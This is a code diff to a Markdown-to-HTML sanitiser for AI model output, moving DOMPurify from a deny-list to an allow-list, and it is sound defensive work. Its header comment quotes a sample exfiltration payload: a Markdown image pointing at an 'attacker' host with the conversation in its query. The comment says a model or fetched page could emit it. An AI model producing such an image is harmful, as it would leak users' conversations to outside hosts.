@@ -1,11 +1,14 @@
 /**
- * Markdown to safe HTML for model output, tool results and the help guides.
- * marked renders (GitHub-flavoured, no raw-HTML trust); DOMPurify then removes anything executable: scripts,
- * event handlers, `javascript:` URLs, SVG/MathML script vectors. Everything shown from a model goes through here.
+ * Markdown to safe HTML for model output, tool results, imported conversations and the help guides.
+ * marked renders (GitHub-flavoured); DOMPurify then keeps only an allow-list: the elements Markdown itself produces,
+ * each with the few attributes it needs (`a[href]`, `code[class=language-*]`, `ol[start]`, `th/td[align]`).
+ * An allow-list, not a deny-list, because the HTML spec keeps growing attributes that fetch (`background`, `poster`,
+ * `ping`, `srcset`, ...) or that let a model draw the app's own chrome (`<dialog open>`, `popover`, `role=alert`,
+ * `class`, `id`): whatever is not listed here is dropped, text kept.
  * Images are never loaded: a model or a fetched page could write `![](https://attacker/?q=<conversation>)` to send
  * the conversation away the moment it renders, so a Markdown image becomes a link the person may choose to open.
  */
-import DOMPurify from 'dompurify'
+import createDOMPurify, { type DOMPurify as Purifier } from 'dompurify'
 import { Marked } from 'marked'
 
 function escapeHtml(text: string): string {
@@ -26,33 +29,67 @@ const marked = new Marked({
   },
 })
 
-let isHookInstalled = false
+const NO_ATTRIBUTES: readonly string[] = []
 
-function installHooks(): void {
-  if (isHookInstalled)
-    return
-  isHookInstalled = true
+/**
+ * Every element untrusted text may keep, with the attributes each may keep. Nothing here fetches (an `a[href]` is
+ * only followed when clicked, in a new tab), positions itself, or looks like the app's dialogs, forms or notices.
+ */
+export const MODEL_OUTPUT_ALLOWED: Readonly<Record<string, readonly string[]>> = {
+  a: ['href', 'title'],
+  code: ['class'],
+  ol: ['start'],
+  th: ['align'],
+  td: ['align'],
+  ...Object.fromEntries([
+    'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'pre', 'ul', 'li',
+    'strong', 'b', 'em', 'i', 'del', 's', 'sub', 'sup', 'kbd',
+    'table', 'thead', 'tbody', 'tfoot', 'tr', 'details', 'summary',
+  ].map(tag => [tag, NO_ATTRIBUTES])),
+}
+
+/** The app's own guides add images (bundled files, rewritten by the help panel). */
+const GUIDE_ALLOWED: Readonly<Record<string, readonly string[]>> = { ...MODEL_OUTPUT_ALLOWED, img: ['src', 'alt', 'title'] }
+
+/** marked writes the fence's language as `class="language-xyz"`; no other class can borrow the app's styles. */
+const CODE_CLASS = /^language-[\w+#.-]{1,40}$/
+
+/** One DOMPurify instance per allow-list, so their hooks never meet (the default instance stays untouched). */
+function makePurifier(allowed: Readonly<Record<string, readonly string[]>>): { purifier: Purifier, config: Record<string, unknown> } {
+  const purifier = createDOMPurify(window)
+  purifier.addHook('uponSanitizeAttribute', (node, data) => {
+    const tag = node.nodeName.toLowerCase()
+    const isListed = allowed[tag]?.includes(data.attrName) ?? false
+    if (!isListed || (tag === 'code' && data.attrName === 'class' && !CODE_CLASS.test(data.attrValue)))
+      data.keepAttr = false
+  })
   // Links open outside the app and never leak the page through `window.opener`.
-  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
+  purifier.addHook('afterSanitizeAttributes', (node) => {
     if (node.tagName === 'A' && node.hasAttribute('href')) {
       node.setAttribute('target', '_blank')
       node.setAttribute('rel', 'noopener noreferrer nofollow')
     }
   })
+  const config = {
+    ALLOWED_TAGS: Object.keys(allowed),
+    ALLOWED_ATTR: [...new Set(Object.values(allowed).flat())],
+    ALLOW_DATA_ATTR: false,
+    ALLOW_ARIA_ATTR: false,
+    ALLOW_UNKNOWN_PROTOCOLS: false,
+    // `target` and `rel` are written by the hook above, after the allow-list has been applied.
+  }
+  return { purifier, config }
 }
 
-const MEDIA_TAGS = ['img', 'picture', 'source', 'video', 'audio']
+let purifiers: { model: ReturnType<typeof makePurifier>, guide: ReturnType<typeof makePurifier> } | undefined
 
 /**
  * Renders Markdown to sanitised HTML. Safe to bind with `v-html`. Needs a DOM (a browser, or jsdom in tests).
  * `isOwnGuide` is for the app's bundled docs only: their images are kept (still sanitised); never for model output.
  */
 export function renderMarkdown(source: string, opts: { isOwnGuide?: boolean } = {}): string {
-  installHooks()
+  purifiers ??= { model: makePurifier(MODEL_OUTPUT_ALLOWED), guide: makePurifier(GUIDE_ALLOWED) }
+  const { purifier, config } = opts.isOwnGuide ? purifiers.guide : purifiers.model
   const html = (opts.isOwnGuide ? trustedMarked : marked).parse(source) as string
-  return DOMPurify.sanitize(html, {
-    USE_PROFILES: { html: true },
-    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed', ...(opts.isOwnGuide ? [] : MEDIA_TAGS)],
-    FORBID_ATTR: ['style'],
-  })
+  return purifier.sanitize(html, config)
 }
